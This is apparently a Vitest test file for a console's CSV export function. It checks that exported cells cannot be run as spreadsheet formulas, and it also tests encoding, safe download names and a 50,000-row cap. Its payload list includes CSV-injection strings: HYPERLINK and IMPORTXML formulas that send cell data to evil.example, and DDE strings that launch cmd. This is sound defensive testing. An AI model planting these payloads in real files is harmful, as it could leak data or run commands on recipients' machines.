// Files of the console (CON-26): every one is made by the one function, and none holds a cell that a spreadsheet runs.
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvCut, csvFile, MAX_CSV_ROWS, ROWS_TO_READ } from '#app/console/csv.ts'

const SOURCES = import.meta.glob<string>(['../../app/console/**/*.{ts,tsx}', '../../app/orders/**/*.{ts,tsx}'], {
  query: '?raw',
  import: 'default',
  eager: true,
})

/** What spreadsheets take for a formula, in every form somebody has found. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(A1:A9)',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  'a;=1+1',
  'a\n=1+1',
  '";=1+1;"',
]
const RUNS = /^[\s\0]*[=+\-@＝＋－＠]/

describe('a file of the console', () => {
  it.each(FORMULAS)(
    'T-PII-11 CON-26 %j is no formula in it, whether cells are told by commas or by semicolons',
    async (text) => {
      const csv = await csvFile('x.csv', ['first', 'second'], [{ first: text, second: `${text} again` }]).text()
      for (const delimiter of [',', ';', '\t'])
        for (const cell of Papa.parse<string[]>(csv, { delimiter }).data.flat())
          for (const part of cell.split(/[\t\r\n]/)) expect(part).not.toMatch(RUNS)
      const [, cells] = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data
      expect(cells?.[0]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
    },
  )

  it('CON-26 is UTF-8 with CRLF and a header line, and is downloaded under a plain name', async () => {
    const file = csvFile(
      'Lauf "ä"/../1.csv',
      ['name', 'number', 'none'],
      [{ name: 'Zoë "Z", 山田', number: 7, none: null }],
    )
    expect(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await file.clone().arrayBuffer())).toBe(
      '\ufeff"name","number","none"\r\n"Zoë ""Z"", 山田","7",""\r\n',
    )
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/)
    expect(await csvFile('x.csv', ['name'], []).text()).toBe('"name"\r\n')
  })

  it('CON-26 holds 50,000 rows at most, and its name, its answer and the page say when it was cut', async () => {
    const rows = Array.from({ length: ROWS_TO_READ }, (_, at) => ({ at }))
    const lines = (await csvFile('x.csv', ['at'], rows).text()).split('\r\n')
    expect([MAX_CSV_ROWS, rows.length, lines.length, lines.at(-2), lines.at(-1)]).toEqual([
      50_000,
      50_001,
      50_002,
      '"49999"',
      '',
    ])
    const said = ({ headers }: Response) => [headers.get('content-disposition'), headers.get('x-file-cut')]
    expect(said(csvFile('orders-all.csv', ['at'], rows))).toEqual([
      'attachment; filename="orders-all-first-50000.csv"',
      'It holds the first 50,000 rows; there are more.',
    ])
    expect(said(csvFile('orders-all.csv', ['at'], rows.slice(1)))).toEqual([
      'attachment; filename="orders-all.csv"',
      null,
    ])
    expect(csvCut(50_000)).toBeNull()
    expect(csvCut(50_001)).toBe('The file holds the first 50,000 of 50,001 rows.')
  })

  it('CON-26 is made by one function: nothing else of the console answers with CSV', () => {
    const makers = Object.entries(SOURCES).flatMap(([file, source]) =>
      /content-type\W+text\/csv/i.test(source) ? [file] : [],
    )
    expect(makers).toEqual(['../../app/console/csv.ts'])
    const users = Object.values(SOURCES).filter((source) => source.includes('csvFile('))
    expect(users.length).toBeGreaterThan(3)
  })
})
